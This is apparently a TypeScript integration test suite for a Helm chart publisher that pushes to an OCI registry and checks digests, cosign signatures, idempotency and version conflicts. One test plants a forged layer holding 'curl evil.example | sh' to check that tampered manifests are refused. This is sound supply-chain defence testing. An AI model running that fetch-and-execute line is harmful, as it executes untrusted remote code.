import { execFileSync } from 'node:child_process';
import { createPublicKey, generateKeyPairSync } from 'node:crypto';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import {
  packageChartDirectory,
  readChartArchive,
  type ChartPackage,
} from '../../../actions/publish-package/src/chart/package';
import { chartArtifact, HELM_MEDIA_TYPES } from '../../../actions/publish-package/src/chart/oci-format';
import {
  chartSummary,
  helmCommands,
  prepareChart,
  publishChart,
  type PublishChartOptions,
  type PublishChartResult,
} from '../../../actions/publish-package/src/chart/publish';
import { digestOf } from '../../../shared/src/oci/digest';
import { cosignSignatureTag } from '../../../shared/src/oci/referrers';
import type { RegistryClient } from '../../../shared/src/oci/registry';
import { MEDIA_TYPES, type ImageManifest } from '../../../shared/src/oci/types';
import { parsePolicy, type Policy } from '../../../shared/src/policy';
import { ConfigurationError } from '../../../shared/src/runtime/errors';
import { MemoryLogger } from '../../utils/loggers';
import { signAfterPush, type SignStepArgs } from '../../../shared/src/signing/sign-step';
import { authedClient, startRegistry, type LocalRegistry } from '../../utils/registry';

const FIXTURE = join(__dirname, '..', '..', 'fixtures', 'charts', 'webapp');
const created = new Date('2026-11-20T08:00:00Z');
const noAws = {
  kms: () => {
    throw new Error('no KMS in this test');
  },
  signer: () => {
    throw new Error('no AWS Signer in this test');
  },
  ecr: () => {
    throw new Error('no ECR in this test');
  },
} as unknown as SignStepArgs['aws'];

let registry: LocalRegistry;
let client: RegistryClient;
let work: string;
let policy: Policy;
const key = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });

/** skopeo, a client independent of ours, against the test registry. */
function skopeo(args: string[]): Buffer {
  return execFileSync(
    'skopeo',
    [
      ...args.slice(0, 1),
      '--tls-verify=false',
      '--creds',
      `${registry.username}:${registry.password}`,
      ...args.slice(1),
    ],
    {
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
}

function copyFixture(name: string): string {
  const dir = join(work, name);
  cpSync(FIXTURE, dir, { recursive: true });
  return dir;
}

/** As the action does: the chart is prepared (checked, packaged, named) first, then pushed and signed. */
async function publish(
  path: string,
  options: Partial<Omit<PublishChartOptions, 'prepared'>> & { version?: string } = {},
) {
  const prepared = await prepareChart({ policy, path, version: options.version });
  return publishChart({ client, prepared, created, logger: new MemoryLogger(), sign, ...options });
}

function sign(repository: string, digest: string) {
  return signAfterPush({
    policy,
    inputs: {},
    client,
    repository,
    digest,
    reference: `${registry.host}/${repository}`,
    aws: noAws,
    logger: new MemoryLogger(),
    env: {},
  });
}

beforeAll(async () => {
  registry = await startRegistry({ auth: true });
  client = authedClient(registry);
  work = mkdtempSync(join(tmpdir(), 'helm-push-'));
  const keyFile = join(work, 'signing.pem');
  writeFileSync(keyFile, key.privateKey.export({ format: 'pem', type: 'pkcs8' }));
  policy = parsePolicy(
    [
      'version: 1',
      'system: acme',
      'region: eu-central-1',
      'resourceTags: {Project: acme, Environment: shared, Purpose: charts, ManagedBy: artifacts, Owner: platform}',
      'registry:',
      '  layout: single',
      '  repository: acme-core',
      '  charts: "{system}/charts/{chart}"',
      'signing:',
      '  method: key',
      `  key: "file://${keyFile}"`,
      '  format: cosign-legacy',
    ].join('\n'),
    'artifact-policy.yml',
  );
});

afterAll(async () => {
  await registry?.stop();
  rmSync(work, { recursive: true, force: true });
});

describe('a chart directory published to the registry', () => {
  const repository = 'acme/charts/webapp';
  const tag = '1.2.3_build.1';
  // The first publish of the chart: the tests below read what it wrote, none depends on another test.
  let first: ChartPackage;
  let result: PublishChartResult;
  beforeAll(async () => {
    first = await packageChartDirectory(copyFixture('first'));
    result = await publish(join(work, 'first'));
  });

  test("is packaged to the same digest twice, pushed in Helm's OCI format, and matches Chart.yaml", async () => {
    const second = await packageChartDirectory(copyFixture('second'));
    expect(second.digest).toBe(first.digest);

    expect(result.repository).toBe(repository);
    expect(result.push.status).toBe('pushed');
    expect(result.chart.digest).toBe(first.digest);
    expect(result.chartUri).toBe(`oci://${registry.host}/${repository}`);

    // Read back by skopeo: the tag holds exactly our manifest bytes.
    const raw = skopeo(['inspect', '--raw', `docker://${registry.host}/${repository}:${tag}`]);
    expect(digestOf(raw)).toBe(result.push.digest);
    const manifest = JSON.parse(raw.toString('utf8')) as ImageManifest;
    expect(manifest.schemaVersion).toBe(2);
    expect(manifest.config.mediaType).toBe('application/vnd.cncf.helm.config.v1+json');
    expect(manifest.layers).toEqual([
      {
        mediaType: 'application/vnd.cncf.helm.chart.content.v1.tar+gzip',
        digest: first.digest,
        size: first.bytes.length,
      },
    ]);
    expect(manifest.annotations).toEqual({
      'org.opencontainers.image.title': 'webapp',
      'org.opencontainers.image.version': '1.2.3+build.1',
      'org.opencontainers.image.description': 'A web application & its <worker> for the demo store',
      'org.opencontainers.image.url': 'https://example.com/webapp',
      'org.opencontainers.image.source': 'https://github.com/acme/webapp',
      'org.opencontainers.image.authors': 'Platform Team (platform@example.com)',
      'org.opencontainers.image.created': '2026-11-20T08:00:00Z',
      category: 'demo',
    });

    // The config blob is Chart.yaml as JSON.
    const config = await client.getBlob(repository, manifest.config.digest);
    const chartYaml = parseYaml(execFileSync('cat', [join(FIXTURE, 'Chart.yaml')], { encoding: 'utf8' }));
    expect(JSON.parse(config.toString('utf8'))).toEqual({
      name: chartYaml.name,
      home: chartYaml.home,
      sources: chartYaml.sources,
      version: chartYaml.version,
      description: chartYaml.description,
      keywords: chartYaml.keywords,
      maintainers: chartYaml.maintainers,
      apiVersion: chartYaml.apiVersion,
      appVersion: chartYaml.appVersion,
      annotations: chartYaml.annotations,
      dependencies: chartYaml.dependencies,
      type: chartYaml.type,
    });

    // The chart layer is the archive, which reads back as the chart and unpacks with GNU tar.
    const layer = await client.getBlob(repository, first.digest);
    expect(layer.equals(first.bytes)).toBe(true);
    expect((await readChartArchive(layer, 'pulled.tgz')).metadata.name).toBe('webapp');
    const pulled = join(work, 'pulled.tgz');
    writeFileSync(pulled, layer);
    expect(execFileSync('tar', ['-tzf', pulled], { encoding: 'utf8' })).toContain('webapp/Chart.yaml');

    expect(helmCommands(result)).toEqual({
      install: `helm install webapp oci://${registry.host}/${repository} --version 1.2.3+build.1`,
      pull: `helm pull oci://${registry.host}/${repository} --version 1.2.3+build.1`,
    });
    const summary = chartSummary(result, registry.host);
    expect(summary).toContain(`helm install webapp oci://${registry.host}/${repository} --version 1.2.3+build.1`);
    expect(summary).toContain(`helm push webapp-1.2.3+build.1.tgz oci://${registry.host}/acme/charts`);
  });

  test('its signature verifies with openssl over the cosign payload that names the chart digest', async () => {
    const manifest = await client.getManifest(repository, tag, MEDIA_TYPES.ociManifest);
    const sig = await client.getManifest(repository, cosignSignatureTag(manifest!.digest), MEDIA_TYPES.ociManifest);
    expect(sig).toBeDefined();
    const sigManifest = JSON.parse(sig!.bytes.toString('utf8')) as ImageManifest;
    expect(sigManifest.layers).toHaveLength(1);
    const payload = await client.getBlob(repository, sigManifest.layers[0].digest);
    expect(JSON.parse(payload.toString('utf8')).critical).toEqual({
      identity: { 'docker-reference': `${registry.host}/${repository}` },
      image: { 'docker-manifest-digest': manifest!.digest },
      type: 'cosign container image signature',
    });
    const signature = Buffer.from(sigManifest.layers[0].annotations!['dev.cosignproject.cosign/signature'], 'base64');
    writeFileSync(join(work, 'payload.json'), payload);
    writeFileSync(join(work, 'payload.sig'), signature);
    writeFileSync(join(work, 'pub.pem'), createPublicKey(key.privateKey).export({ format: 'pem', type: 'spki' }));
    const out = execFileSync(
      'openssl',
      [
        'dgst',
        '-sha256',
        '-verify',
        join(work, 'pub.pem'),
        '-signature',
        join(work, 'payload.sig'),
        join(work, 'payload.json'),
      ],
      { encoding: 'utf8' },
    );
    expect(out).toContain('Verified OK');
  });

  test('the same chart again is a no-op success: same digest, no new tag, no second signature', async () => {
    const tagsBefore = (await client.listTags(repository)).sort();
    const before = await client.getManifest(repository, tag, MEDIA_TYPES.ociManifest);
    // A later run (another clock) of the same chart still finds it unchanged.
    const again = await publish(copyFixture('third'), { created: new Date('2027-01-01T00:00:00Z') });
    expect(again.push.status).toBe('unchanged');
    expect(again.push.digest).toBe(before!.digest);
    expect(again.signature?.skipped).toBe(true);
    expect((await client.listTags(repository)).sort()).toEqual(tagsBefore);
  });

  test('another chart under the same version is refused, naming both digests, and the registry is unchanged', async () => {
    const changed = copyFixture('changed');
    writeFileSync(join(changed, 'values.yaml'), 'replicaCount: 5\n');
    const changedChart = await packageChartDirectory(changed);
    const before = await client.getManifest(repository, tag, MEDIA_TYPES.ociManifest);
    const tagsBefore = (await client.listTags(repository)).sort();
    const published = (JSON.parse(before!.bytes.toString('utf8')) as ImageManifest).layers[0].digest;

    let error: unknown;
    try {
      await publish(changed);
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(ConfigurationError);
    const message = (error as Error).message;
    expect(message).toContain(before!.digest);
    expect(message).toContain(published);
    expect(message).toContain(changedChart.digest);
    expect(message).toMatch(/raise version in Chart.yaml/);

    expect((await client.getManifest(repository, tag, MEDIA_TYPES.ociManifest))!.digest).toBe(before!.digest);
    expect((await client.listTags(repository)).sort()).toEqual(tagsBefore);
    expect(await client.headBlob(repository, changedChart.digest)).toBe(false);
  });

  test('a manifest that holds this chart plus a forged layer is not this chart: refused, the registry unchanged', async () => {
    const dir = copyFixture('forged');
    writeFileSync(
      join(dir, 'Chart.yaml'),
      execFileSync('sed', ['s/^version: .*/version: 3.0.0/', join(dir, 'Chart.yaml')]),
    );
    const real = await packageChartDirectory(dir);
    // Someone with push access tags 3.0.0 first: the real chart's config and layer, and one more layer.
    const genuine = chartArtifact(real.metadata, real.bytes, { created });
    const extra = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
    const extraLayer = { mediaType: HELM_MEDIA_TYPES.chart, digest: digestOf(extra), size: extra.length };
    await client.pushBlob(repository, genuine.layer, real.bytes);
    await client.pushBlob(repository, genuine.config.descriptor, genuine.config.bytes);
    await client.pushBlob(repository, extraLayer, extra);
    const forgedBytes = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: MEDIA_TYPES.ociManifest,
        config: genuine.config.descriptor,
        layers: [genuine.layer, extraLayer],
      }),
    );
    const forged = { bytes: forgedBytes, digest: digestOf(forgedBytes), mediaType: MEDIA_TYPES.ociManifest };
    await client.putManifest(repository, '3.0.0', forged);

    const attempt = publish(dir);
    await expect(attempt).rejects.toThrow(ConfigurationError);
    await expect(attempt).rejects.toThrow(new RegExp(`1 other layer\\(s\\) \\(${extraLayer.digest}\\)`));
    expect((await client.getManifest(repository, '3.0.0', MEDIA_TYPES.ociManifest))!.digest).toBe(forged.digest);
  });

  test('a packaged .tgz is pushed as given; a dry run writes nothing', async () => {
    const dir = copyFixture('next');
    writeFileSync(
      join(dir, 'Chart.yaml'),
      execFileSync('sed', ['s/^version: .*/version: 2.0.0/', join(dir, 'Chart.yaml')]),
    );
    const packaged = await packageChartDirectory(dir);
    const tgz = join(work, 'webapp-2.0.0.tgz');
    writeFileSync(tgz, packaged.bytes);

    const dry = await publish(tgz, { dryRun: true });
    expect(dry.push.status).toBe('planned');
    expect(dry.signature).toBeUndefined();
    expect(await client.getManifest(repository, '2.0.0', MEDIA_TYPES.ociManifest)).toBeUndefined();

    const result = await publish(tgz);
    expect(result.push.status).toBe('pushed');
    expect(result.chart.origin).toBe('archive');
    const stored = JSON.parse(
      (await client.getManifest(repository, '2.0.0', MEDIA_TYPES.ociManifest))!.bytes.toString('utf8'),
    ) as ImageManifest;
    expect(stored.layers[0]).toMatchObject({ mediaType: HELM_MEDIA_TYPES.chart, digest: packaged.digest });
  });

  test('a version that does not match the input is refused before anything is written', async () => {
    await expect(prepareChart({ policy, path: copyFixture('mismatch'), version: '9.9.9' })).rejects.toThrow(
      /Input 'version' is '9.9.9' but the chart's Chart.yaml says version '1.2.3\+build.1'/,
    );
  });
});
